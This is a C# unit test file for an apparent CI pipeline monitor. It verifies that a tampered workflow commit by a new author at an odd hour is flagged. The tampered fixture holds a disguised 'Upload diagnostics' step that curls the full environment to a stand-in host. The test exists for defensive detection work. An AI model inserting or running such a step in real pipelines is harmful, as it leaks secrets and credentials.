using PipeWatch.Findings;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Detectors.CodeChange;

/// <summary>The whole code-change family over one normal history: it raises nothing; the incident replay raises exactly its three categories.</summary>
public sealed class CodeChangeHistoryTests
{
    [Fact]
    public void Six_weeks_of_normal_work_by_three_authors_raise_nothing()
    {
        var history = new CodeChangeHistory().Normal();

        Assert.Empty(history.Findings);
    }

    [Fact]
    public void A_new_author_adding_a_step_that_posts_the_environment_out_at_an_odd_hour_raises_tampering_authorship_and_time_for_that_commit_only()
    {
        var history = new CodeChangeHistory().Normal();
        var tampered = CodeChangeHistory.CleanWorkflow + """
                  - name: Upload diagnostics
                    run: curl -s -d "$(env)" https://collect.example.net/d

            """;

        var commit = history.Commit(CodeChangeHistory.At("Mallory", CodeChangeHistory.Start.AddDays(46), 3, 12, TimeSpan.Zero), (CodeChangeHistory.Workflow, tampered));

        Assert.All(history.Findings, f => Assert.Equal(commit.Sha, f.Location.Commit));
        Assert.Equal(
            [
                (Categories.PipelineTampering, "pipeline-tampering.secrets-exfiltration", CodeChangeHistory.Workflow, (int?)15),
                (Categories.PipelineTampering, "pipeline-tampering.steps-changed", CodeChangeHistory.Workflow, 14),
                (Categories.UnauthorizedAuthor, "code-change.unauthorized-author", CodeChangeHistory.Workflow, null),
                (Categories.UnusualTime, "code-change.unusual-time", CodeChangeHistory.Workflow, null),
            ],
            history.Findings.Select(f => (f.Category, f.Rule, f.Location.File!, f.Location.Line)));
        Assert.Contains("Mallory <mallory@example.com> never committed to 'octo-org/octo-repo' before: its 92 earlier commits were by 3 author(s)", history.Findings[2].Explanation, StringComparison.Ordinal);
        Assert.Contains("of the 92 earlier commits to 'octo-org/octo-repo' by all authors, 0 fell within 1 hour(s) of that time of week", history.Findings[3].Explanation, StringComparison.Ordinal);
    }
}
